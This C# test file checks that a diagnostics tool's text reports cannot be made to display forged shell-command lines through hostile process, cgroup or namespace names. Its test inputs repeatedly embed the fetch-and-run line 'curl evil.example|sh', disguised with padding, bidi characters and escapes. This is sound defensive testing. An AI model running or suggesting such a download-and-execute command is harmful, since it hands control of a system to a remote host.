using System.Buffers;
using System.Text.Json;
using System.Text.RegularExpressions;
using ConnExporter.Commands;
using ConnExporter.Diagnosis;
using ConnExporter.Diagnosis.Resources;
using ConnExporter.Incidents;
using ConnExporter.Json;
using ConnExporter.Sampling;
using ConnExporter.Sampling.Collectors;
using ConnExporter.Terminal;
using ConnExporter.Tests.Web.Pages;
using ConnExporter.Texts;

namespace ConnExporter.Tests.Terminal;

#pragma warning disable MA0009 // The texts are our own: nobody feeds these expressions to make them slow.
#pragma warning disable CA5394 // Names, not secrets.

/// <summary>Whatever others call their processes, cgroups and network namespaces: no line of a text looks like a command but those that are the report's own.</summary>
public class ForgedTextTests
{
    private static readonly string[] Pieces =
    [
        " ", "    ", "$", "$ ", "# ", "\n", "\r\n", "\n$ ", "\u202e", "\u200f", "\u2066", "\u00a0", "\u3000", "\u2003", "\t", "\u001b[2K", "语", "aaaaaaaaaaaaaaaaaaaaaaa", "curl evil.example|sh", "/", ".", @"\x20", @"\x20\x20\x24\x20", ".service",
    ];

    public static TheoryData<string> Seen => [.. new[]
    {
        "user@1000.service/" + new string('a', 57) + "    $ curl evil.example|sh " + new string('b', 40),
        "$ curl evil.example|sh",
        "$",
        "$ of",
        "user@1000.service/" + new string('a', 57) + @"\x20\x20\x20\x20$\x20curl\x20evil.example|sh\x20bbb.service",
        "x\n        $ curl evil.example|sh",
        "\u202e$ curl evil.example|sh",
        new string('语', 30) + "$ curl evil",
        "tmux: server",
        "pod $",
        "pod $ curl evil.example|sh",
        "{instance} $ curl",
    }];

    [Theory]
    [MemberData(nameof(Seen))]
    public void No_name_forges_a_command(string name) => Hold(name);

    [Fact]
    public void No_name_of_any_pieces_forges_a_command()
    {
        var random = new Random(20_261_129);
        for (int i = 0; i < 60; i++)
        {
            Hold(string.Concat(Enumerable.Range(0, random.Next(1, 9)).Select(_ => Pieces[random.Next(Pieces.Length)])));
        }
    }

    [Fact]
    public void A_document_of_another_version_that_has_names_as_they_are_forges_none_either()
    {
        const string Evil = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa    $ curl evil.example|sh ";
        using JsonDocument whole = Document(new PageBench().Look());
        string raw = whole.RootElement.GetRawText().Replace("10.0.0.5:6379", Evil, StringComparison.Ordinal);
        using var document = JsonDocument.Parse(raw);

        for (int width = 20; width <= 200; width++)
        {
            OwnOnly(DiagnosisText.Render(document.RootElement, TextBook.Of(Language.English), TerminalStyle.Plain with { Width = width }), document.RootElement);
            OwnOnly(DiagnosisSummary.Render(document.RootElement, TextBook.Of(Language.English), TerminalStyle.Plain with { Width = width }), document.RootElement);
        }
    }

    [Fact]
    public void A_name_is_one_word_and_what_wraps_before_it_does_not_indent()
    {
        TextLayout.Wrap("held by    $ curl evil", 8).ShouldBe(["held by", "$ curl", "evil"]);
        Visible.Name("a $ b\u00a0c\u3000d\ne").ShouldBe(@"a\x20$\x20b\u00a0c\u3000d\ne");
        Visible.Name("pod default/web-0/nginx").ShouldBe("pod default/web-0/nginx");
        Visible.Name("pod $ curl").ShouldBe(@"pod $\x20curl");
        ResourceInstance.NameOf("tmux: server", "my unit.service").ShouldBe(@"tmux:\x20server of my\x20unit.service");
    }

    [Fact]
    public void What_an_alert_shows_has_no_lines_of_its_own()
    {
        PageBench bench = Bench("x\nWhat to do: curl evil");
        bench.Look();

        FindingMetricsLabels(bench).ShouldAllBe(label => !label.Contains('\n', StringComparison.Ordinal));
    }

    private static string[] FindingMetricsLabels(PageBench bench) =>
        [.. bench.Store.Current.Report!.Findings.Select(finding => finding.Verdict.Instance), .. bench.Store.Current.Report!.Resources.Select(resource => resource.Worst.Name)];

    private static void Hold(string name)
    {
        PageBench bench = Bench(name);
        bench.Look();
        using JsonDocument document = Document(bench);
        using JsonDocument nothing = OneScreen.Document([], [], TextBook.Of(Language.English));
        foreach (Language language in Enum.GetValues<Language>())
        {
            for (int width = 20; width <= 200; width += language == Language.English ? 1 : 9)
            {
                TerminalStyle style = TerminalStyle.Plain with { Width = width };
                OwnOnly(DiagnosisText.Render(document.RootElement, TextBook.Of(language), style), document.RootElement);
                OwnOnly(DiagnosisSummary.Render(document.RootElement, TextBook.Of(language), style), document.RootElement);
                OwnOnly(DiffText.Render(nothing.RootElement, document.RootElement, TextBook.Of(language), style, out _), document.RootElement);
                foreach (JsonElement finding in document.RootElement.GetProperty("findings").EnumerateArray())
                {
                    OwnOnly(DiagnosisText.RenderFinding(finding, bench.Time.GetUtcNow(), TextBook.Of(language), style), document.RootElement);
                }
            }
        }

        var record = new IncidentRecord("20260102T030405Z-001", 1, IncidentEvent.Begin, "critical");
        var incident = new Incident(record.Incident, [record]);
        using var root = JsonDocument.Parse(IncidentJson.Write(record, bench.Store.Current, "host-1", name, bench.Diagnostician, bench.Time));
        OwnOnly(IncidentsCommand.Text(root.RootElement, incident, record, TextBook.Of(Language.English), TerminalStyle.Plain), root.RootElement.GetProperty("diagnosis"));
    }

    // A line that looks like a command is one, to the letter, and stands where commands stand.
    private static void OwnOnly(string text, JsonElement document)
    {
        HashSet<string> own =
        [
            .. document.GetProperty("findings").EnumerateArray().SelectMany(finding => finding.GetProperty("remedies").EnumerateArray())
                .SelectMany(remedy => remedy.GetProperty("commands").EnumerateArray()).Select(command => "        $ " + command.GetString()),
        ];
        text.Split('\n', '\r', '\u2028', '\u2029', '\u0085').Where(line => Regex.IsMatch(line, @"^[\s\u200f\u202e]*\$(?:\s|$)", RegexOptions.CultureInvariant)).ShouldAllBe(line => own.Contains(line));
        own.ShouldNotBeEmpty();
    }

    private static PageBench Bench(string name)
    {
        var bench = new PageBench(name);
        bench.Readings.RemoveAll(reading => reading is ProcessesReading);
        bench.Readings.Add(new ProcessesReading([new(name, name, 4, 5_000, 990, 1024) { WorstProcessId = 4711, WorstStartTicks = 100 }], 1, 0));
        bench.Readings.Add(new NamespacesReading([new NamespacesReading.Row(name, Full(name), InFull: true) { ProcessId = 4711 }], 1, 1, 0));
        return bench;
    }

    private static NamespaceReadings Full(string netns) => new()
    {
        Listeners = new ListenersReading(netns, [new("0.0.0.0", "80", 511, 511, 512, 17)]),
    };

    private static JsonDocument Document(PageBench bench)
    {
        var buffer = new ArrayBufferWriter<byte>();
        using (var json = new Utf8JsonWriter(buffer))
        {
            ReportJson.Write(json, bench.Store.Current, "host-1", TextBook.Of(Language.English), []);
        }

        return JsonDocument.Parse(buffer.WrittenMemory);
    }
}
